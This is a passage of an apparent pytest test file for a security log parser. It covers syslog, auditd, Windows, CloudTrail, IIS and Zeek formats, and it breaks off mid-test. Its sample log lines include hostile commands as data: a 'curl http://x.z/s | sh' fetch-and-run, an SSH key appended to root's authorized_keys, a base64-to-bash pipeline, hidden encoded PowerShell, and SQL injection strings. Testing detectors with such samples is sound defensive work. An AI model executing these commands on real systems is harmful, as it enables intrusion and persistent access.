"""Parsers on real-shaped lines: the right fields per format, year inference, detection."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import pytest
from _ingest_helpers import (
    ACCESS,
    APACHE_ERROR,
    AUDITD,
    CLOUDTRAIL_CONSOLE_LOGIN,
    CLOUDTRAIL_ROOT_STOPLOGGING,
    NGINX_ERROR,
    RFC5424,
    RSYSLOG_ISO,
    SSHD,
    SYSMON_1_EVTX,
    WIN_4624_XMLTODICT,
    WIN_4625_WINLOGBEAT,
    WIN_4688_FLAT,
    WIN_7045_WINLOGBEAT6,
    jline,
    log_lines,
)
from _log_fixtures import RAW_REQUESTS

from logwarden.app.parse import FORMATS, detect_format, parse_file_json, parse_lines, parse_stream
from logwarden.errors import InputError

REF = datetime(2024, 6, 1, 12, 0, 0)


def parse(texts: list[str], fmt: str, reference_time: datetime | None = REF):
    return list(parse_lines(log_lines(texts), fmt, reference_time=reference_time))


# --- syslog ----------------------------------------------------------------------------------

def test_syslog_openssh_lines_give_host_program_pid_message():
    events = parse(SSHD[:3], "syslog")
    assert [e.format for e in events] == ["syslog"] * 3
    first = events[0]
    assert (first.host, first.program, first.fields["pid"]) == ("LabSZ", "sshd", 24200)
    assert first.ts == datetime(2023, 12, 10, 6, 55, 46)  # December is after June 2024 → 2023
    assert events[2].message.startswith("Failed password for invalid user webmaster from 173.")


def test_syslog_program_with_module_and_without_pid():
    pam, kernel = parse(SSHD[4:6], "syslog")
    assert (pam.program, pam.fields["pid"], pam.host) == ("sshd(pam_unix)", 19939, "combo")
    assert kernel.program == "kernel" and "pid" not in kernel.fields
    assert kernel.message == "Linux version 2.6.5-1.358 (bhcompile@bugs.build.redhat.com)"


def test_syslog_line_without_host_keeps_the_tag_as_program():
    (event,) = parse(["Mar  3 10:00:00 sshd[12]: pam_unix(sshd:auth): authentication failure"],
                     "syslog")
    assert (event.host, event.program, event.fields["pid"]) == (None, "sshd", 12)
    assert event.message == "pam_unix(sshd:auth): authentication failure"


def test_rsyslog_file_format_iso_timestamp_is_timezone_aware():
    (event,) = parse([RSYSLOG_ISO], "syslog")
    assert event.ts == datetime(2024, 3, 3, 10, 15, 1, 123456, timezone(timedelta(hours=1)))
    assert (event.host, event.program, event.fields["pid"]) == ("web1", "sshd", 812)


def test_year_rolls_over_from_december_to_january_with_mtime_in_january():
    lines = ["Dec 31 23:59:58 h cron[1]: a", "Jan  1 00:00:03 h cron[1]: b"]
    events = parse(lines, "syslog", reference_time=datetime(2024, 1, 5))
    assert [e.ts.year for e in events] == [2023, 2024]


def test_year_rolls_over_even_when_the_reference_time_is_before_new_year():
    lines = ["Dec 31 23:59:58 h cron[1]: a", "Jan  1 00:00:03 h cron[1]: b",
             "Jan  1 00:00:09 h cron[1]: c"]
    events = parse(lines, "syslog", reference_time=datetime(2023, 12, 31, 23, 59, 59))
    assert [e.ts.year for e in events] == [2023, 2024, 2024]


def test_lines_sharing_a_stamp_share_its_time_also_across_new_year_and_when_impossible():
    lines = ["Dec 31 23:59:58 h cron[1]: a", "Jan  1 00:00:03 h cron[1]: b", "Jan  1 00:00:03 h cron[1]: c",
             "Feb 30 10:00:00 h cron[1]: d", "Feb 30 10:00:00 h cron[1]: e", "Jan  1 00:00:03 h cron[1]: f"]
    events = parse(lines, "syslog", reference_time=datetime(2023, 12, 31, 23, 59, 59))
    assert [e.ts.year if e.ts else None for e in events] == [2023, 2024, 2024, None, None, 2024]
    assert [e.fields.get("timestamp_invalid") for e in events[3:5]] == ["Feb 30 10:00:00"] * 2


@pytest.mark.parametrize("message, fields", [
    ("login attempt FAILED user=bob from 10.1.1.1", {"src_ip": "10.1.1.1", "user": "bob"}),
    ("Bad Credentials for username: carol ip=10.1.1.2", {"src_ip": "10.1.1.2", "user": "carol"}),
    ("authentication faİl: user=josé from 10.1.1.3", {"src_ip": "10.1.1.3", "user": "josé"}),  # Unicode case folding
    ("login ok user=dave from 10.1.1.4", {}),
])
def test_application_login_failures_give_address_and_account(message, fields):
    from logwarden.app.parse.messages import message_fields

    assert message_fields("myapp", message) == fields


def test_feb_29_is_valid_in_a_leap_year():
    (event,) = parse(["Feb 29 08:00:00 h sshd[3]: ok"], "syslog",
                     reference_time=datetime(2024, 3, 1))
    assert event.format == "syslog" and event.ts == datetime(2024, 2, 29, 8, 0, 0)


def test_rfc5424_fields():
    plain, structured = parse(RFC5424, "rfc5424")
    assert plain.ts == datetime(2003, 10, 11, 22, 14, 15, 3000, timezone.utc)
    assert (plain.host, plain.program, plain.fields["msgid"]) == ("mymachine.example.com", "su",
                                                                  "ID47")
    assert "structured_data" not in plain.fields and "pid" not in plain.fields
    assert plain.message == "'su root' failed for lonvick on /dev/pts/8"  # BOM removed
    assert structured.fields["pid"] == 1234 and structured.fields["app_name"] == "evntslog"
    assert structured.fields["structured_data"].startswith('[exampleSDID@32473 iut="3"')
    assert structured.message == "An application event log entry..."


# --- web -------------------------------------------------------------------------------------

def test_access_common_and_combined():
    common, combined = parse(ACCESS[:2], "access")
    assert common.fields == {
        "src_ip": "64.242.88.10", "status": 401, "bytes": 12846, "method": "GET",
        "path": "/twiki/bin/edit/Main/Double_bounce_sender?topicparent=Main.ConfigurationVariables",
        "protocol": "HTTP/1.1", "request": common.message}
    assert common.ts == datetime(2004, 3, 7, 16, 5, 49, tzinfo=timezone(timedelta(hours=-8)))
    assert combined.fields["user"] == "frank"
    assert combined.fields["referrer"] == "http://www.example.com/start.html"
    assert combined.fields["user_agent"] == "Mozilla/4.08 [en] (Win98; I ;Nav)"


def test_access_attack_request_keeps_query_string():
    (event,) = parse([ACCESS[2]], "access")
    assert event.fields["path"] == "/index.php?id=1%27%20UNION%20SELECT%201,2,3--"
    assert event.fields["user_agent"].startswith("sqlmap/1.7.2")


def test_access_garbage_request_lines_still_parse():
    tls, dash = parse(ACCESS[3:5], "access")
    assert tls.format == "access" and tls.fields["request"] == "\\x16\\x03\\x01"
    assert "method" not in tls.fields and tls.fields["status"] == 400
    assert tls.host == "shop.example.com" and tls.fields["src_ip"] == "203.0.113.9"
    assert dash.format == "access" and dash.fields["request"] == "-" and dash.fields["bytes"] == 0


def test_apache_error_22_and_24():
    notice, client22, client24, ipv6 = parse(APACHE_ERROR, "apache_error")
    assert notice.fields == {"level": "notice"} and notice.ts == datetime(2005, 12, 4, 4, 47, 44)
    assert client22.fields["src_ip"] == "81.199.21.119"
    assert client22.message == "File does not exist: /var/www/html/awstats.pl"
    assert client24.fields == {"level": "error", "module": "core", "pid": 35708,
                               "src_ip": "72.15.99.187", "error_code": "AH00128"}
    assert client24.ts == datetime(2011, 9, 9, 10, 42, 29, 902022)
    assert ipv6.fields["src_ip"] == "2001:db8::7" and ipv6.fields["error_code"] == "AH01630"


def test_nginx_error_log_reads_as_apache_error():
    (event,) = parse([NGINX_ERROR], "apache_error")
    assert event.format == "apache_error" and event.program == "nginx"
    assert event.fields == {"level": "error", "pid": 1234, "src_ip": "45.155.205.233"}


# --- JSON ------------------------------------------------------------------------------------

def test_windows_4625_winlogbeat():
    (event,) = parse([jline(WIN_4625_WINLOGBEAT)], "windows")
    f = event.fields
    assert (f["EventID"], f["Channel"], f["Computer"]) == (4625, "Security", "DC01.corp.local")
    assert (f["TargetUserName"], f["LogonType"], f["src_ip"], f["user"]) == (
        "administrator", "3", "185.220.101.4", "administrator")
    assert event.host == "DC01.corp.local"
    assert event.ts == datetime(2023, 5, 2, 10, 15, 23, 456000, timezone.utc)
    assert event.message.startswith("EventID 4625 Security: TargetUserName=administrator")


def test_sysmon_1_evtx_dump_shape():
    (event,) = parse([jline(SYSMON_1_EVTX)], "windows")
    f = event.fields
    assert f["EventID"] == 1 and f["Provider"] == "Microsoft-Windows-Sysmon"
    assert f["CommandLine"] == "powershell.exe -nop -w hidden -enc SQBFAFgA"
    assert f["ParentImage"] == "C:\\Windows\\System32\\cmd.exe" and f["user"] == "CORP\\bob"
    assert event.ts == datetime(2019, 3, 19, 23, 34, 25, 723936, timezone.utc)
    assert event.host == "WIN-HOST01"


def test_windows_xmltodict_flat_and_winlogbeat6_shapes():
    xml, flat, beat6 = parse([jline(WIN_4624_XMLTODICT), jline(WIN_4688_FLAT),
                              jline(WIN_7045_WINLOGBEAT6)], "windows")
    assert (xml.fields["EventID"], xml.fields["LogonType"], xml.fields["src_ip"]) == (
        4624, "10", "10.0.0.44")
    assert xml.ts == datetime(2022, 1, 5, 8, 0, 1, 123456, timezone.utc)
    assert flat.fields["CommandLine"] == "whoami /all" and flat.host == "WKS7.corp.local"
    assert flat.fields["user"] == "alice" and "Hostname" not in flat.fields
    assert beat6.fields["EventID"] == 7045 and beat6.fields["ServiceName"] == "PSEXESVC"
    assert beat6.fields["Channel"] == "System"


def test_cloudtrail_console_login_and_root():
    login, root = parse([jline(CLOUDTRAIL_CONSOLE_LOGIN), jline(CLOUDTRAIL_ROOT_STOPLOGGING)],
                        "cloudtrail")
    assert login.fields["eventName"] == "ConsoleLogin" and login.fields["user"] == "alice"
    assert login.fields["src_ip"] == "198.51.100.23"
    assert login.fields["userIdentity_arn"] == "arn:aws:iam::123456789012:user/alice"
    assert login.fields["responseElements"] == {"ConsoleLogin": "Failure"}
    assert login.fields["requestParameters"] is None
    assert login.message == "signin.amazonaws.com ConsoleLogin alice"
    assert root.fields["user"] == "root" and root.fields["userIdentity_type"] == "Root"
    assert root.ts == datetime(2023, 7, 19, 21, 15, 2, tzinfo=timezone.utc)


def test_cloudtrail_pretty_printed_records_file_points_at_each_record_line():
    document = json.dumps({"Records": [CLOUDTRAIL_CONSOLE_LOGIN, CLOUDTRAIL_ROOT_STOPLOGGING]},
                          indent=2)
    texts = document.split("\n")
    events = parse_file_json(log_lines(texts))
    assert [e.fields["eventName"] for e in events] == ["ConsoleLogin", "StopLogging"]
    for event in events:
        assert texts[event.line_no - 1].strip() == "{"  # the line that opens the record
        assert json.loads(event.raw)["eventName"] == event.fields["eventName"]
    assert events[0].line_no < events[1].line_no


def test_parse_stream_expands_a_one_line_cloudtrail_file():
    text = jline({"Records": [CLOUDTRAIL_CONSOLE_LOGIN, CLOUDTRAIL_ROOT_STOPLOGGING]})
    decision, events = parse_stream(log_lines([text]))
    events = list(events)
    assert decision.name == "cloudtrail" and decision.whole_file
    assert [e.fields["user"] for e in events] == ["alice", "root"]
    assert all(e.line_no == 1 for e in events)


def test_cloudtrail_records_in_eventbridge_and_lookup_events_envelopes():
    """CloudTrail as EventBridge delivers it (the record in `detail`) and as `aws cloudtrail
    lookup-events` prints it (`{"Events": [...]}`, the record as a JSON string): the same events,
    and Sigma's dotted names read the record, not the envelope."""
    from logwarden.app.detect import Detector, load_rules

    bridge = [jline({"version": "0", "detail-type": "AWS API Call via CloudTrail", "source": "aws.cloudtrail",
                     "account": "123456789012", "detail": record})
              for record in (CLOUDTRAIL_CONSOLE_LOGIN, CLOUDTRAIL_ROOT_STOPLOGGING)]
    decision, events = parse_stream(log_lines(bridge))
    events = list(events)
    assert decision.name == "cloudtrail" and [e.fields["user"] for e in events] == ["alice", "root"]
    lookup = json.dumps({"Events": [{"EventId": "1", "EventName": r["eventName"], "CloudTrailEvent": json.dumps(r)}
                                    for r in (CLOUDTRAIL_CONSOLE_LOGIN, CLOUDTRAIL_ROOT_STOPLOGGING)]}, indent=4)
    decision, listed = parse_stream(log_lines(lookup.split("\n")))
    listed = list(listed)
    assert decision.name == "cloudtrail" and [e.fields["eventName"] for e in listed] == ["ConsoleLogin", "StopLogging"]
    assert listed[1].line_no > listed[0].line_no > 1
    rule = ("title: root\nname: t-root\nlevel: high\nlogsource: {product: aws, service: cloudtrail}\n"
            "detection:\n  selection:\n    userIdentity.type: Root\n  condition: selection\n")
    for found in (events, listed):
        assert [s.rule_id for s in Detector(load_rules([_rule_file(rule)])).scan(found)] == ["t-root"]


def _rule_file(text: str):
    import tempfile
    from pathlib import Path

    path = Path(tempfile.mkdtemp()) / "rule.yml"
    path.write_text(text)
    return path


def test_parse_file_json_refuses_what_is_not_a_json_document():
    assert parse_file_json(log_lines(["{", '  "a": ', "oops"])) is None
    assert parse_file_json(log_lines(SSHD[:2])) is None


def test_generic_json_flattens_one_level_and_picks_message_and_time():
    line = jline({"time": "2024-02-01T10:00:00Z", "level": "warn", "msg": "login failed",
                  "client": {"ip": "10.0.0.8", "geo": {"cc": "DE"}}, "user": "bob"})
    (event,) = parse([line], "json")
    assert event.message == "login failed" and event.fields["client.ip"] == "10.0.0.8"
    assert event.fields["client.geo"] == {"cc": "DE"} and event.fields["user"] == "bob"
    assert event.ts == datetime(2024, 2, 1, 10, 0, tzinfo=timezone.utc)


def test_journald_json_export():
    line = jline({"__REALTIME_TIMESTAMP": "1700000000123456", "_HOSTNAME": "web1",
                  "SYSLOG_IDENTIFIER": "sshd", "_PID": "812",
                  "MESSAGE": "Failed password for root from 203.0.113.50 port 4242 ssh2"})
    (event,) = parse([line], "json")
    assert (event.host, event.program, event.fields["pid"]) == ("web1", "sshd", 812)
    assert event.ts == datetime(2023, 11, 14, 22, 13, 20, 123456, timezone.utc)


# --- auditd ----------------------------------------------------------------------------------

def test_auditd_user_auth_merges_inner_msg_pairs():
    (event,) = parse(AUDITD[:1], "auditd")
    f = event.fields
    assert (f["type"], f["audit_id"], f["acct"], f["res"]) == (
        "USER_AUTH", "1700000000.123:456", "root", "failed")
    assert (f["src_ip"], f["user"], f["exe"], f["uid"]) == ("203.0.113.50", "root",
                                                            "/usr/sbin/sshd", 0)
    assert event.ts == datetime(2023, 11, 14, 22, 13, 20, 123000, timezone.utc)


def test_auditd_execve_hex_arguments_decoded_but_syscall_registers_not():
    syscall, execve = parse(AUDITD[1:3], "auditd")
    assert syscall.fields["a0"] == "55d3c2a1b2c0" and syscall.fields["key"] == "rootcmd"
    assert execve.fields["a2"] == "curl http://x.z/s | sh"
    assert execve.fields["cmdline"] == "bash -c curl http://x.z/s | sh"
    assert syscall.fields["audit_id"] == execve.fields["audit_id"]


def test_auditd_node_prefix_and_enriched_format():
    (event,) = parse(AUDITD[3:4], "auditd")
    assert event.host == "web1" and event.fields["src_ip"] == "10.0.0.9"
    assert event.fields["AUID"] == "alice" and event.fields["res"] == "success"


def _hex(text: str) -> str:
    return text.encode().hex().upper()


def test_auditd_one_execve_event_over_its_records_keeps_one_id_and_decodes_proctitle():
    argv = ["sh", "-c", "echo 'ssh-ed25519 AAAAC3Nz x@y' >> /root/.ssh/authorized_keys"]
    stamp = "audit(1700000100.200:5120)"
    records = [f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=5581 a1=5582 a2=5583 "
               f'a3=0 items=2 ppid=4100 pid=4107 auid=1000 uid=0 tty=pts0 ses=7 comm="sh" exe="/usr/bin/dash" key="exec"',
               f'type=EXECVE msg={stamp}: argc=3 a0="sh" a1="-c" a2={_hex(argv[2])}',
               f'type=CWD msg={stamp}: cwd="/root"',
               f'type=PATH msg={stamp}: item=0 name="/bin/sh" inode=1 dev=08:01 mode=0100755 nametype=NORMAL',
               f"type=PROCTITLE msg={stamp}: proctitle={_hex(chr(0).join(argv))}"]
    events = parse(records, "auditd")
    assert {e.fields["audit_id"] for e in events} == {"1700000100.200:5120"}
    syscall, execve, cwd, path, proctitle = events
    assert execve.fields["cmdline"] == " ".join(argv)
    assert proctitle.fields["proctitle"] == " ".join(argv)
    assert (syscall.fields["exe"], syscall.fields["auid"], cwd.fields["cwd"], path.fields["name"]) == (
        "/usr/bin/dash", 1000, "/root", "/bin/sh")


def test_auditd_execve_argument_logged_in_pieces_is_joined():
    """The kernel logs an argument over 7,500 bytes as `aN_len=` and pieces `aN[0]=`, `aN[1]=`…"""
    payload = "echo " + "QUJD" * 2500 + " | base64 -d | bash"
    cut = 7500
    record = (f'type=EXECVE msg=audit(1700000100.300:5121): argc=3 a0="bash" a1="-c" a2_len={len(payload)} '
              f"a2[0]={_hex(payload[:cut])} a2[1]={_hex(payload[cut:])}")
    (event,) = parse([record], "auditd")
    assert event.fields["a2"] == payload and event.fields["cmdline"] == f"bash -c {payload}"
    assert not any("[" in key for key in event.fields)
    # pieces written quoted (no byte that needs encoding), and out of order, join too
    quoted = ('type=EXECVE msg=audit(1700000100.301:5122): argc=2 a0="python3" a1_len=12 '
              'a1[1]="-world" a1[0]="hello"')
    (event,) = parse([quoted], "auditd")
    assert event.fields["cmdline"] == "python3 hello-world"


# --- generic ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "expected"), [
    ("2015-10-18 18:01:47,978 INFO [main] org.apache.hadoop.mapreduce: Created",
     datetime(2015, 10, 18, 18, 1, 47, 978000)),
    ("081109 203615 148 INFO dfs.DataNode$PacketResponder: Received block",
     datetime(2008, 11, 9, 20, 36, 15)),
    ("17/06/09 20:10:40 INFO executor.CoarseGrainedExecutorBackend: Registered",
     datetime(2017, 6, 9, 20, 10, 40)),
    ("1157689324.156   1372 10.105.21.199 TCP_MISS/200 399 GET http://www.google-analytics.com/",
     datetime(2006, 9, 8, 4, 22, 4, 156000, timezone.utc)),
    ("[Sun Dec 04 04:47:44 2005] mod_jk child workerEnv in error state 6",
     datetime(2005, 12, 4, 4, 47, 44)),
    ("Feb 30 10:00:00 host sshd[1]: impossible date", None),
    ("no time in this line at all", None),
])
def test_generic_timestamp_heuristics(text, expected):
    from logwarden.app.events import LogLine
    from logwarden.app.parse.generic import GenericParser

    # the generic parser itself (a file sniffed as generic still offers each line to the others first)
    event = GenericParser(reference_time=REF).parse(LogLine("x.log", 0, 0, 1, text))
    assert event.format == "generic" and event.message == text
    assert event.ts == expected


# --- dispatch and detection ------------------------------------------------------------------

def test_a_parser_bug_makes_one_generic_event_and_every_line_keeps_its_place_across_runs(monkeypatch, caplog):
    from logwarden.app.parse import PARSE_RUN
    from logwarden.app.parse.syslog import SyslogParser

    real = SyslogParser.parse

    def buggy(self, line):
        if line.line_no == PARSE_RUN + 3:
            raise ValueError("bug")
        return real(self, line)

    monkeypatch.setattr(SyslogParser, "parse", buggy)
    texts = [f"Mar  3 10:00:{i % 60:02d} h cron[{i}]: line {i}" for i in range(1, 2 * PARSE_RUN + 10)]
    events = parse(texts, "syslog")
    assert [e.line_no for e in events] == list(range(1, len(texts) + 1))
    assert [e.format for e in events].count("generic") == 1 and events[PARSE_RUN + 2].format == "generic"
    assert "parser failed" in caplog.text


def test_parse_lines_unknown_format_raises_input_error_naming_the_choices():
    with pytest.raises(InputError, match="syslog"):
        parse_lines([], "evtx-binary")


def test_lines_the_chosen_parser_cannot_read_go_to_the_next_parser_one_for_one():
    events = parse([SSHD[0], ACCESS[0], "", "garbage"], "syslog")
    assert [e.format for e in events] == ["syslog", "access", "generic", "generic"]
    assert [e.line_no for e in events] == [1, 2, 3, 4]
    assert events[1].raw == ACCESS[0] and events[1].ts is not None


def test_windows_file_with_a_non_windows_json_line_falls_back_to_json():
    events = parse([jline(WIN_4625_WINLOGBEAT), jline({"msg": "agent started"})], "windows")
    assert [e.format for e in events] == ["windows", "json"]


@pytest.mark.parametrize(("texts", "expected"), [
    (SSHD, "syslog"),
    ([RSYSLOG_ISO] * 3, "syslog"),
    (RFC5424, "rfc5424"),
    (ACCESS, "access"),
    (APACHE_ERROR + [NGINX_ERROR], "apache_error"),
    (AUDITD, "auditd"),
    ([jline(o) for o in (WIN_4625_WINLOGBEAT, SYSMON_1_EVTX, WIN_4688_FLAT)], "windows"),
    ([jline(CLOUDTRAIL_CONSOLE_LOGIN), jline(CLOUDTRAIL_ROOT_STOPLOGGING)], "cloudtrail"),
    ([jline({"level": "info", "msg": "x"}), jline({"level": "error", "msg": "y"})], "json"),
])
def test_detect_format_per_format(texts, expected):
    decision = detect_format(texts)
    assert decision.name == expected, decision.reason
    assert decision.confidence > 0.5 and not decision.whole_file
    assert decision.reason.startswith(f"{expected}: {len(texts)}/{len(texts)} sample lines")


def test_detect_format_garbage_and_empty_are_generic():
    garbage = detect_format(["hello world", "%%%% ^^^", "12345", "x=1 y=2"])
    assert garbage.name == "generic" and garbage.confidence == 0.0
    assert "no known format" in garbage.reason
    assert detect_format(["", "   "]).name == "generic"


def test_detect_format_mixed_file_picks_the_majority_and_names_the_runner_up():
    decision = detect_format(SSHD[:6] + ACCESS[:2] + ["noise"] * 2)
    assert decision.name == "syslog" and decision.confidence == pytest.approx(0.6)
    assert "access 2/10" in decision.reason


def test_detect_format_pretty_printed_json_is_a_whole_file_document():
    texts = json.dumps({"Records": [CLOUDTRAIL_CONSOLE_LOGIN]}, indent=2).split("\n")
    decision = detect_format(texts, "trail.json")
    assert (decision.name, decision.whole_file) == ("cloudtrail", True)
    windows = json.dumps([SYSMON_1_EVTX], indent=4).split("\n")
    assert detect_format(windows).name == "windows"


def test_detect_format_apache_error_brackets_are_not_mistaken_for_json():
    decision = detect_format(APACHE_ERROR)
    assert (decision.name, decision.whole_file) == ("apache_error", False)


def test_every_format_name_is_a_parser():
    assert set(FORMATS) == {"syslog", "rfc5424", "access", "aws_lb", "w3c", "zeek", "http_request", "apache_error",
                            "windows", "cloudtrail", "json", "auditd", "generic"}


def test_parse_stream_line_mode_keeps_every_line_and_honours_a_chosen_format():
    texts = SSHD * 5 + ["not syslog"] * 30
    decision, events = parse_stream(log_lines(texts), reference_time=REF)
    events = list(events)
    assert decision.name == "syslog" and len(events) == len(texts)
    assert [e.line_no for e in events] == list(range(1, len(texts) + 1))
    chosen, events = parse_stream(log_lines(ACCESS), fmt="access")
    assert chosen.reason == "access: chosen by the user" and len(list(events)) == len(ACCESS)
    with pytest.raises(InputError):
        parse_stream(log_lines(ACCESS), fmt="nope")


def test_parse_stream_invalid_multiline_json_falls_back_to_generic_lines():
    texts = ["{", '  "Records": [', "    {oops", "  ]"]
    decision, events = parse_stream(log_lines(texts))
    assert decision.name == "generic" and "not valid JSON" in decision.reason
    assert [e.format for e in events] == ["generic"] * 4


def test_parse_stream_says_when_a_one_line_document_was_cut_by_the_line_limit(tmp_path):
    from logwarden.app.ingest import read_lines

    document = jline({"Records": [CLOUDTRAIL_CONSOLE_LOGIN] * 400})
    path = tmp_path / "trail.json"
    path.write_text(document)
    decision, events = parse_stream(read_lines(path, max_line_bytes=4096))
    assert decision.name == "generic" and "larger max_line_bytes" in decision.reason
    assert len(list(events)) == 1
    decision, events = parse_stream(read_lines(path, max_line_bytes=len(document)))
    assert decision.name == "cloudtrail" and len(list(events)) == 400


def test_syslog_unfolds_rsyslog_repeat_lines():
    from logwarden.app.events import LogLine
    from logwarden.app.parse import parse_lines

    texts = ["Dec 10 11:03:40 LabSZ sshd[25448]: message repeated 5 times: [ Failed password for root from 183.62.140.253 port 38135 ssh2]",
             "2024-03-12T10:00:00+00:00 web1 sshd[7]: message repeated 2 times: [ Connection closed by 10.0.0.9 port 22 [preauth]]",
             "Dec 10 11:03:41 LabSZ sshd[25449]: the message repeated 5 times: [ not rsyslog's wording ]"]
    events = list(parse_lines([LogLine(source="auth.log", line_no=n, text=t, inode=0, offset=0)
                               for n, t in enumerate(texts, 1)], "syslog"))
    assert (events[0].message, events[0].fields["repeat"]) == ("Failed password for root from 183.62.140.253 port 38135 ssh2", 5)
    assert (events[1].message, events[1].fields["repeat"]) == ("Connection closed by 10.0.0.9 port 22 [preauth]", 2)
    assert "repeat" not in events[2].fields and events[2].message.startswith("the message repeated")


IIS_HEAD = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", "#Date: 2024-03-12 07:40:01",
            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
            "cs(Referer) sc-status sc-substatus sc-win32-status time-taken"]
IIS_ROWS = ["2024-03-12 07:40:01 10.0.0.4 GET /default.aspx - 443 - 10.1.2.3 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15",
            "2024-03-12 07:41:02 10.0.0.4 GET /products.aspx id=1'+UNION+SELECT+1-- 443 CORP\\bob 45.9.20.11 "
            "sqlmap/1.7.2 https://shop/ 500 0 0 31"]


def _w3c_events(texts):
    from logwarden.app.events import LogLine
    from logwarden.app.parse import parse_lines

    return list(parse_lines([LogLine(source="u_ex.log", line_no=n, text=t, inode=0, offset=0)
                             for n, t in enumerate(texts, 1)], "w3c"))


def test_w3c_iis_lines_become_access_events_with_the_access_fields():
    from logwarden.app.parse import detect_format

    assert detect_format(IIS_HEAD + IIS_ROWS * 5).name == "w3c"
    events = _w3c_events(IIS_HEAD + IIS_ROWS)
    assert [e.format for e in events] == ["generic"] * 4 + ["access", "access"]  # directives stay lines
    row = events[5]
    assert row.ts.isoformat() == "2024-03-12T07:41:02+00:00"
    assert row.fields.items() >= {"src_ip": "45.9.20.11", "method": "GET", "path": "/products.aspx?id=1'+UNION+SELECT+1--",
                               "status": 500, "user": "CORP\\bob", "user_agent": "sqlmap/1.7.2",
                               "referrer": "https://shop/", "server_port": "443"}.items()
    assert row.message == row.fields["request"] == "GET /products.aspx?id=1'+UNION+SELECT+1-- HTTP/1.1"
    assert events[4].fields["user_agent"] == "Mozilla/5.0 (Windows NT 10.0)"


def test_w3c_fields_directive_changes_the_columns_and_a_headerless_piece_uses_iis_defaults():
    changed = ["#Fields: date time c-ip cs-method cs-uri-stem sc-status sc-bytes",
               "2024-03-12 08:00:00 45.9.20.11 POST /login 401 312"]
    events = _w3c_events(IIS_HEAD + IIS_ROWS[:1] + changed)
    assert events[-1].fields.items() >= {"src_ip": "45.9.20.11", "method": "POST", "path": "/login", "status": 401,
                                         "bytes": 312}.items()
    headerless = _w3c_events(IIS_ROWS)  # a rotated piece: IIS's default 15 columns
    assert [e.fields["src_ip"] for e in headerless] == ["10.1.2.3", "45.9.20.11"]
    assert _w3c_events(["2024-03-12 08:00:00 only three"])[0].format == "generic"
    app_line = "2024-03-12 08:00:00 INFO worker-3 job 42 finished in 3.2 s with 0 errors and 17"  # 15 words
    assert _w3c_events([app_line])[0].format == "generic"


def test_journalctl_exports_read_as_syslog():
    """`journalctl -o short-iso` writes +0000 offsets; `-o json` records are syslog in JSON."""
    import json as _json

    from logwarden.app.events import LogLine
    from logwarden.app.parse import detect_format, parse_lines

    short = ["2024-03-12T07:42:10+0000 web01 sshd[1200]: Failed password for root from 45.9.20.11 port 40000 ssh2"]
    assert detect_format(short).name == "syslog"
    [event] = parse_lines([LogLine(source="a", line_no=1, text=short[0], inode=0, offset=0)], "syslog")
    assert (event.ts.isoformat(), event.host, event.program) == ("2024-03-12T07:42:10+00:00", "web01", "sshd")
    record = _json.dumps({"__REALTIME_TIMESTAMP": "1710229330000000", "_HOSTNAME": "web01", "SYSLOG_IDENTIFIER": "sshd",
                          "_PID": "1200", "MESSAGE": "Accepted publickey for deploy from 10.0.0.8 port 50000 ssh2"})
    [event] = parse_lines([LogLine(source="j", line_no=1, text=record, inode=0, offset=0)], detect_format([record]).name)
    assert (event.format, event.program, event.host, event.message) == (
        "syslog", "sshd", "web01", "Accepted publickey for deploy from 10.0.0.8 port 50000 ssh2")
    app = _json.dumps({"time": "2024-03-12T07:42:10Z", "level": "info", "msg": "started"})
    assert next(iter(parse_lines([LogLine(source="j", line_no=1, text=app, inode=0, offset=0)], "json"))).format == "json"


ZEEK_HTTP = ["#separator \\x09", "#path\thttp",
             "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\treferrer\tversion\t"
             "user_agent\tresponse_body_len\tstatus_code",
             "1710229330.123456\tCXy1\t45.9.20.11\t51234\t10.0.0.4\t80\tGET\tshop\t/p.php?id=1%27\t-\t1.1\t"
             "sqlmap/1.7\t512\t200"]


def test_zeek_http_log_rows_become_access_events_tsv_and_json():
    import json as _json

    from logwarden.app.events import LogLine
    from logwarden.app.parse import detect_format, parse_lines

    def events(texts, fmt):
        return list(parse_lines([LogLine(source="http.log", line_no=n, text=t, inode=0, offset=0)
                                 for n, t in enumerate(texts, 1)], fmt))

    assert detect_format(ZEEK_HTTP + ZEEK_HTTP[3:] * 4).name == "zeek"
    row = events(ZEEK_HTTP, "zeek")[3]
    assert row.format == "access" and row.ts.isoformat() == "2024-03-12T07:42:10.123456+00:00"
    assert row.fields.items() >= {"src_ip": "45.9.20.11", "method": "GET", "path": "/p.php?id=1%27", "status": 200,
                                  "bytes": 512, "user_agent": "sqlmap/1.7", "vhost": "shop", "dst_ip": "10.0.0.4"}.items()
    assert "referrer" not in row.fields  # Zeek's "-" is unset
    record = _json.dumps({"ts": 1710229330.5, "uid": "CJ1", "id.orig_h": "45.9.20.12", "id.orig_p": 5000,
                          "id.resp_h": "10.0.0.4", "id.resp_p": 80, "method": "POST", "uri": "/login", "status_code": 401})
    [event] = events([record], detect_format([record]).name)
    assert (event.format, event.fields["src_ip"], event.fields["path"], event.fields["status"]) == ("access", "45.9.20.12", "/login", 401)
    conn = ["#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state",
            "1710229330.1\tC1\t10.0.0.5\t40000\t8.8.8.8\t53\tudp\tSF"]
    other = events(conn, "zeek")[1]
    assert (other.format, other.fields["src_ip"], other.fields["dst_ip"]) == ("zeek", "10.0.0.5", "8.8.8.8")


# CSIC 2010-style raw requests: absolute-form targets, headers, a POST body after a blank line
def test_raw_http_requests_become_access_events_with_headers_and_body():
    assert detect_format(RAW_REQUESTS).name == "http_request"
    events = parse(RAW_REQUESTS, "http_request")
    first, agent, pragma = events[0], events[1], events[2]
    assert (first.format, first.host, first.fields["method"], first.fields["protocol"]) == (
        "access", "localhost:8080", "GET", "HTTP/1.1")
    assert first.fields["path"].startswith("/tienda1/publico/anadir.jsp?id=2")  # origin form
    assert agent.format == "access" and "path" not in agent.fields and agent.fields["user_agent"].startswith("Mozilla")
    assert (pragma.format, pragma.fields) == ("http_header", {"header": "pragma", "value": "no-cache"})
    body = events[12]
